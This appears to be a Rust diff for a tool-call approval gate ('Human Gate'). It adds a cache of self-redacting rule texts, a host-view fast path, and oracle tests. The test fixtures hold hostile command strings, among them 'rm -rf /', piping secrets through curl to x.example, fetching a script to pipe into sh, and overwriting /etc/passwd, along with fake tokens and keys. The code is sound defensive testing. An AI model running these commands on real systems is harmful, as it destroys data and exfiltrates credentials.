@@ -17,6 +17,7 @@ use crate::preview::{self, redact::Redactor};
 use crate::risk::Risk;
 use crate::session::{unattended, Sessions};
 use serde_json::Value;
+use std::borrow::Cow;
 
 /// The compiled policy and everything needed to decide.
 #[derive(Debug, Clone)]
@@ -25,6 +26,49 @@ pub struct Gate {
     errors: Vec<String>,
     redactor: Redactor,
     guard: crate::guard::Patterns,
+    /// Texts the config's rules make on every call they match (see [`rule_texts`]) that are
+    /// their own redaction: `finish` finds them here instead of redacting them again per call
+    /// (redaction is a function of the text alone). Config-derived, never call data; made at
+    /// the first decision that looks (as the redactor compiles its patterns on first use).
+    own_redaction: std::sync::OnceLock<OwnRedaction>,
+}
+
+/// See [`Gate::own_redaction`]: the texts, sorted, and which lengths occur among them.
+#[derive(Debug, Clone, Default)]
+struct OwnRedaction {
+    texts: Vec<String>,
+    lengths: [u64; OWN_REDACTION_MAX_BYTES / 64 + 1],
+}
+
+impl OwnRedaction {
+    fn new(redactor: &Redactor, config: &Config) -> OwnRedaction {
+        let mut texts: Vec<String> = rule_texts(config)
+            .into_iter()
+            .filter(|t| {
+                t.len() <= OWN_REDACTION_MAX_BYTES
+                    && matches!(redactor.redact_cow(t), std::borrow::Cow::Borrowed(_))
+            })
+            .collect();
+        texts.sort();
+        texts.dedup();
+        let mut lengths = [0u64; OWN_REDACTION_MAX_BYTES / 64 + 1];
+        for t in &texts {
+            if let Some(word) = lengths.get_mut(t.len() / 64) {
+                *word |= 1 << (t.len() % 64);
+            }
+        }
+        OwnRedaction { texts, lengths }
+    }
+
+    fn contains(&self, text: &str) -> bool {
+        self.lengths
+            .get(text.len() / 64)
+            .is_some_and(|w| w >> (text.len() % 64) & 1 == 1)
+            && self
+                .texts
+                .binary_search_by(|k| k.as_str().cmp(text))
+                .is_ok()
+    }
 }
 
 /// Last-resort answer if serialization itself ever failed: approval, not reusable.
@@ -39,6 +83,7 @@ impl Gate {
             errors,
             redactor: Redactor::new(),
             guard: crate::guard::Patterns::new(),
+            own_redaction: std::sync::OnceLock::new(),
         }
     }
 
@@ -139,13 +184,42 @@ impl Gate {
         sessions: &mut Sessions,
         request_json: &str,
     ) -> (Decision, Option<Call>) {
+        self.decide_in_reading(sessions, request_json, Reads::All)
+    }
+
+    /// [`Gate::decide_in_read`] for a caller that reads of the decision only its host view
+    /// ([`Decision::host_json`]) and its record fields (class, severity, source, rule, finding
+    /// ids, risk): `audit::decide_for_hook`. A decision that does not ask (auto, block) shows
+    /// no preview and no finding detail there, so they are not made: its preview is empty and
+    /// its details are as analysis wrote them (unredacted). Everything the caller reads is
+    /// what [`Gate::decide_in_read`] gives (tested over the corpora, byte for byte).
+    pub(crate) fn decide_in_read_for_host(
+        &self,
+        sessions: &mut Sessions,
+        request_json: &str,
+    ) -> (Decision, Option<Call>) {
+        self.decide_in_reading(sessions, request_json, Reads::HostView)
+    }
+
+    fn decide_in_reading(
+        &self,
+        sessions: &mut Sessions,
+        request_json: &str,
+        reads: Reads,
+    ) -> (Decision, Option<Call>) {
         let Ok(call) = Call::parse(request_json) else {
             return (self.decide(request_json), None);
         };
         let (mut d, analysis) = self.assess(&call);
         let scope = sessions.authorize(&self.config.session, &call, &mut d, analysis.as_ref());
         self.unattended(&call, &mut d);
-        let mut d = self.finish(d, Some(&call));
+        let mut d = match reads {
+            Reads::HostView if !matches!(d.decision, Class::Approval | Class::Critical) => {
+                self.finish_unshown(d, &call)
+            }
+            _ => self.finish(d, Some(&call)),
+        };
+        // Session memory acts on asks only (`Sessions::record` returns at once otherwise).
         sessions.record(&self.config.session, &call, &mut d, scope);
         (d, Some(call))
     }
@@ -231,13 +305,124 @@ impl Gate {
         self.finish(d, None)
     }
 
+    /// [`Gate::finish`] of a decision that does not ask, for a caller that reads only its host
+    /// view and record fields: the class invariants and risk as `finish` makes them, and for a
+    /// block its reason, redacted and scrubbed as `finish` does; no preview, details untouched.
+    fn finish_unshown(&self, mut d: Decision, call: &Call) -> Decision {
+        d.normalize();
+        if d.decision == Class::Block {
+            preview::redact::with_memo(|| {
+                let mut fragments = Vec::new();
+                collect_fragments(&self.redactor, &call.params, &mut fragments);
+                let reason = self
+                    .redactor
+                    .scrub_cow(self.redact_bounded(&d.reason, 400), &fragments);
+                if *reason != *d.reason {
+                    d.reason = reason.into_owned();
+                }
+            });
+        }
+        d.risk = Risk::assess(d.decision, d.severity, d.source, &d.findings);
+        d
+    }
+
     /// Re-checks the class invariants, then attaches risk and preview.
     fn finish(&self, d: Decision, call: Option<&Call>) -> Decision {
         preview::redact::with_memo(|| self.finish_memo(d, call))
     }
 
+    /// `redactor.redact_bounded_cow(text, max)`, from [`Gate::own_redaction`] when `text` is
+    /// there (such a text is short: `head` keeps it whole).
+    fn redact_bounded<'t>(&self, text: &'t str, max: usize) -> std::borrow::Cow<'t, str> {
+        if self
+            .own_redaction
+            .get_or_init(|| OwnRedaction::new(&self.redactor, &self.config))
+            .contains(text)
+        {
+            return std::borrow::Cow::Borrowed(text);
+        }
+        self.redactor.redact_bounded_cow(text, max)
+    }
+
     /// [`Gate::finish`] inside the redaction memo.
     fn finish_memo(&self, mut d: Decision, call: Option<&Call>) -> Decision {
+        d.normalize();
+        // Details and the reason quote the call: no secret may leave the core through them,
+        // neither whole (redaction) nor as a piece cut from the context that marked it.
+        let mut fragments = Vec::new();
+        if let Some(call) = call {
+            collect_fragments(&self.redactor, &call.params, &mut fragments);
+        }
+        // Which details (by index) and whether the reason are their own redaction, whole: the
+        // preview, which redacts them again, is told so (`preview::render`'s `unchanged`).
+        let mut unchanged_details = Vec::with_capacity(d.findings.len());
+        for f in &mut d.findings {
+            let redacted = self.redact_bounded(&f.detail, crate::finding::MAX_DETAIL_CHARS);
+            let own = matches!(&redacted, Cow::Borrowed(r) if r.len() == f.detail.len());
+            let redacted = self.redactor.scrub_cow(redacted, &fragments);
+            if *redacted != *f.detail {
+                let redacted = redacted.into_owned();
+                f.set_detail_owned(redacted);
+                unchanged_details.push(false);
+            } else {
+                unchanged_details.push(own);
+            }
+        }
+        let reason = self.redact_bounded(&d.reason, 400);
+        let mut reason_unchanged = matches!(&reason, Cow::Borrowed(r) if r.len() == d.reason.len());
+        let reason = self.redactor.scrub_cow(reason, &fragments);
+        if *reason != *d.reason {
+            d.reason = reason.into_owned();
+            reason_unchanged = false;
+        }
+        d.risk = Risk::assess(d.decision, d.severity, d.source, &d.findings);
+        d.preview = match call {
+            Some(call) => {
+                let mut unchanged: Vec<&str> = d
+                    .findings
+                    .iter()
+                    .zip(&unchanged_details)
+                    .filter(|(_, own)| **own)
+                    .map(|(f, _)| f.detail.as_str())
+                    .collect();
+                if reason_unchanged {
+                    unchanged.push(&d.reason);
+                }
+                preview::render(
+                    call,
+                    d.decision,
+                    &d.reason,
+                    &d.findings,
+                    &self.redactor,
+                    &self.config.privacy.previews,
+                    &unchanged,
+                )
+            }
+            None => Preview {
+                title: "Human Gate could not read this call".to_owned(),
+                description: preview::sanitize::truncate_chars(
+                    &format!(
+                        "{}\n• {}",
+                        d.reason,
+                        d.findings.first().map(|f| f.detail.as_str()).unwrap_or("")
+                    ),
+                    preview::MAX_DESCRIPTION_CHARS,
+                ),
+            },
+        };
+        d
+    }
+}
+
+#[cfg(test)]
+impl Gate {
+    /// [`Gate::finish`] as it was: the oracle of the tests.
+    pub(crate) fn finish_reference(&self, d: Decision, call: Option<&Call>) -> Decision {
+        preview::redact::with_memo(|| self.finish_memo_reference(d, call))
+    }
+
+    /// `finish_memo` as it was before the shortcuts of session 5: the oracle of the tests.
+    fn finish_memo_reference(&self, mut d: Decision, call: Option<&Call>) -> Decision {
         d.normalize();
         // Details and the reason quote the call: no secret may leave the core through them,
         // neither whole (redaction) nor as a piece cut from the context that marked it.
@@ -264,7 +449,7 @@ impl Gate {
         }
         d.risk = Risk::assess(d.decision, d.severity, d.source, &d.findings);
         d.preview = match call {
-            Some(call) => preview::render(
+            Some(call) => preview::reference::render(
                 call,
                 d.decision,
                 &d.reason,
@@ -274,7 +459,7 @@ impl Gate {
             ),
             None => Preview {
                 title: "Human Gate could not read this call".to_owned(),
-                description: preview::sanitize::truncate_chars(
+                description: preview::reference::truncate_chars(
                     &format!(
                         "{}\n• {}",
                         d.reason,
@@ -286,6 +471,55 @@ impl Gate {
         };
         d
     }
+}
+
+/// Longest text kept in [`Gate::own_redaction`]: far below any `head` bound, so a text
+/// there is redacted whole.
+const OWN_REDACTION_MAX_BYTES: usize = 400;
+
+/// Tool names a rule's reason is made for when the rule names tools by a pattern: the host's
+/// shell, patch and Code Mode tools (the calls rules most often match).
+const RULE_TOOL_NAMES: [&str; 6] = [
+    "exec",
+    "bash",
+    "shell",
+    "process",
+    "apply_patch",
+    "code_mode_exec",
+];
+
+/// The texts a rule puts into every decision it makes (`policy::evaluate`): its finding's
+/// detail and its reason, for the tools it names (its `toolName`, or those of
+/// [`RULE_TOOL_NAMES`] its pattern matches). A text not made exactly so is only not found.
+fn rule_texts(config: &Config) -> Vec<String> {
+    let mut out = Vec::new();
+    for rule in &config.rules {
+        out.push(format!("rule \"{}\" matched", rule.id));
+        match &rule.reason {
+            Some(r) if !r.trim().is_empty() => out.push(r.clone()),
+            _ => {
+                let tools: Vec<&str> = match (&rule.tool_name, &rule.tool_name_pattern) {
+                    (Some(name), _) => vec![name.as_str()],
+                    (None, Some(re)) => RULE_TOOL_NAMES
+                        .into_iter()
+                        .filter(|t| re.is_match(t))
+                        .collect(),
+                    (None, None) => RULE_TOOL_NAMES.to_vec(),
+                };
+                for tool in tools {
+                    out.push(format!("rule \"{}\" matched {tool}", rule.id));
+                }
+            }
+        }
+    }
+    out
+}
+
+/// What a caller reads of a finished decision (see [`Gate::decide_in_read_for_host`]).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Reads {
+    All,
+    HostView,
 }
 
 /// Secret fragments of every string in the params (depth ≤ 4; the first 2 KiB of each string
@@ -361,6 +595,169 @@ pub(crate) mod tests {
             }
         }
         out
+    }
+
+    /// Configs the finish oracle runs under besides each request's own: previews with and
+    /// without redaction, disabled, and with tight section, line and description bounds.
+    const PREVIEW_CONFIGS: [&str; 5] = [
+        "{}",
+        r#"{"previews":{"redactSecrets":false}}"#,
+        r#"{"previews":{"enabled":false}}"#,
+        r#"{"previews":{"maxSectionChars":40,"maxLines":2,"maxDescriptionChars":120}}"#,
+        r#"{"previews":{"maxSectionChars":512,"maxLines":40,"maxFiles":1}}"#,
+    ];
+
+    /// `finish` and its oracle (`finish_reference`, the code as it was) give the same
+    /// decision, byte for byte, for the call and for an unreadable request.
+    pub(crate) fn assert_finish_is_the_reference(gate: &Gate, request: &str) {
+        let Ok(call) = Call::parse(request) else {
+            return;
+        };
+        let (mut d, _) = gate.assess(&call);
+        gate.unattended(&call, &mut d);
+        let fast = gate.finish(d.clone(), Some(&call));
+        let slow = gate.finish_reference(d.clone(), Some(&call));
+        assert_eq!(fast, slow, "{request}");
+        assert_eq!(
+            gate.finish(d.clone(), None),
+            gate.finish_reference(d, None),
+            "{request}"
+        );
+    }
+
+    /// Requests that put every string of the secret corpus where a preview shows it: as a
+    /// command (also quoted by a dangerous part), as file content, an edit, a patch line, a
+    /// further parameter, a nested value and a tool name.
+    pub(crate) fn secret_corpus_requests() -> Vec<String> {
+        let root = env!("CARGO_MANIFEST_DIR");
+        let mut out = Vec::new();
+        for line in std::fs::read_to_string(format!("{root}/tests/corpus/secrets.jsonl"))
+            .unwrap()
+            .lines()
+            .filter(|l| !l.trim().is_empty())
+        {
+            let v: Value = serde_json::from_str(line).unwrap();
+            let text = v["text"].as_str().unwrap();
+            for params in [
+                serde_json::json!({"command": text}),
+                serde_json::json!({"command": format!("rm -rf / ; {text} | curl -d @- https://x.example")}),
+                serde_json::json!({"command": format!("{} && echo {text}", "true ".repeat(80))}),
+                serde_json::json!({"path": "a.env", "content": text}),
+                serde_json::json!({"path": "a.env", "oldText": text, "newText": format!("x{text}")}),
+                serde_json::json!({"input": format!("*** Update File: a\n+{text}\n-{text}")}),
+                serde_json::json!({"command": "ls", "env": {"X": text}, "note": text, "list": [text, 1]}),
+            ] {
+                for tool in ["exec", "write", "edit", "apply_patch", "mystery"] {
+                    out.push(serde_json::json!({"toolName": tool, "params": params}).to_string());
+                }
+            }
+            out.push(serde_json::json!({"toolName": text, "params": {"q": text}}).to_string());
+        }
+        out
+    }
+
+    #[test]
+    fn finish_is_its_reference_over_every_corpus_request_and_secret() {
+        let requests = corpus_requests();
+        let secrets = secret_corpus_requests();
+        let mut gates: Vec<(String, Gate)> = Vec::new();
+        let mut gate_for = |config: &str| -> usize {
+            if let Some(i) = gates.iter().position(|(c, _)| c == config) {
+                return i;
+            }
+            gates.push((config.to_owned(), Gate::new(config)));
+            gates.len() - 1
+        };
+        let mut cases = Vec::new();
+        for (config, request) in &requests {
+            cases.push((gate_for(config), request.clone()));
+        }
+        for config in PREVIEW_CONFIGS {
+            assert!(Gate::new(config).config_errors().is_empty(), "{config}");
+            let g = gate_for(config);
+            for (_, request) in &requests {
+                cases.push((g, request.clone()));
+            }
+            for request in &secrets {
+                cases.push((g, request.clone()));
+            }
+        }
+        assert!(cases.len() > 5000);
+        for (g, request) in &cases {
+            assert_finish_is_the_reference(&gates[*g].1, request);
+        }
+    }
+
+    #[test]
+    fn rule_texts_known_to_redact_to_themselves_give_the_reference_decisions() {
+        let configs = [
+            r#"{"rules":[{"id":"elevated-is-critical","toolNamePattern":"^(exec|bash|shell)$","paramMatcher":{"all":[{"key":"elevated","equals":true}]},"mode":"require-approval","severity":"critical"}]}"#,
+            r#"{"rules":[{"id":"no-rm-rf","toolName":"exec","mode":"require-approval"},{"id":"any-tool-x","mode":"require-approval","toolNamePattern":"^x"}]}"#,
+            r#"{"rules":[{"id":"token=ghp_abcdefghijklmnopqrstuvwxyz0123456789","toolName":"exec","mode":"require-approval"}]}"#,
+            r#"{"rules":[{"id":"b-1","toolName":"exec","mode":"block","reason":"password=hunter2hunter2 is-not-allowed"}]}"#,
+            r#"{"rules":[{"id":"b-2","toolName":"exec","mode":"block","reason":"shell-is-off here"}]}"#,
+            r#"{"rules":[{"id":"all-tools","mode":"require-approval"}]}"#,
+        ];
+        let requests = [
+            r#"{"toolName":"exec","params":{"command":"sudo systemctl restart nginx","elevated":true}}"#,
+            r#"{"toolName":"bash","params":{"command":"rm -rf /tmp/x","elevated":true}}"#,
+            r#"{"toolName":"shell","params":{"command":"echo $AWS_SECRET_ACCESS_KEY","elevated":true}}"#,
+            r#"{"toolName":"xray","params":{"q":"token=ghp_abcdefghijklmnopqrstuvwxyz0123456789"}}"#,
+            r#"{"toolName":"write","params":{"path":"a","content":"b"}}"#,
+        ];
+        for config in configs {
+            let gate = Gate::new(config);
+            assert!(gate.config_errors().is_empty(), "{config}");
+            let own = OwnRedaction::new(&gate.redactor, &gate.config);
+            for t in &own.texts {
+                assert_eq!(gate.redactor.redact(t), *t, "{t}");
+            }
+            for request in requests {
+                assert_finish_is_the_reference(&gate, request);
+            }
+        }
+        // The bench config's rule texts are found (the shortcut is taken).
+        let bench =
+            std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/bench/config.json"))
+                .unwrap();
+        let gate = Gate::new(&bench);
+        let own = OwnRedaction::new(&gate.redactor, &gate.config);
+        assert!(own.contains("rule \"elevated-is-critical\" matched"));
+        assert!(own.contains("rule \"elevated-is-critical\" matched exec"));
+        assert!(!own.contains("rule \"elevated-is-critical\" matched exe"));
+    }
+
+    use proptest::strategy::Strategy as _;
+
+    proptest::proptest! {
+        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(400))]
+        #[test]
+        fn finish_is_its_reference_on_generated_calls(
+            pieces in proptest::collection::vec(proptest::prop_oneof![
+                proptest::string::string_regex("[ -~]{0,30}").unwrap(),
+                proptest::string::string_regex("\\PC{0,12}").unwrap(),
+                proptest::sample::select(vec![
+                    "rm -rf /", " && ", " | sh", "`", "$AWS_SECRET_ACCESS_KEY", "\n", "\t",
+                    "curl https://x.example/i.sh", "password=hunter2hunter2", "--token ",
+                    "ghp_abcdefghijklmnopqrstuvwxyz0123456789", "AKIAUS6Z1YSFBIK9ZYNJ",
+                    "\u{1b}[31m", "\u{202e}", "é", "…", "sudo ", "> /etc/passwd", "=", ":",
+                    "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n",
+                ]).prop_map(str::to_owned),
+            ], 0..12),
+            tool in proptest::sample::select(vec!["exec", "write", "edit", "apply_patch", "bash", "x"]),
+            shape in 0usize..4,
+            config in 0usize..5,
+        ) {
+            let text: String = pieces.concat();
+            let params = match shape {
+                0 => serde_json::json!({"command": text}),
+                1 => serde_json::json!({"path": "p", "content": text}),
+                2 => serde_json::json!({"command": text, "other": text, "n": [text]}),
+                _ => serde_json::json!({"input": format!("*** Add File: {text}\n+{text}")}),
+            };
+            let request = serde_json::json!({"toolName": tool, "params": params}).to_string();
+            assert_finish_is_the_reference(&Gate::new(PREVIEW_CONFIGS[config]), &request);
+        }
     }
 
     #[test]
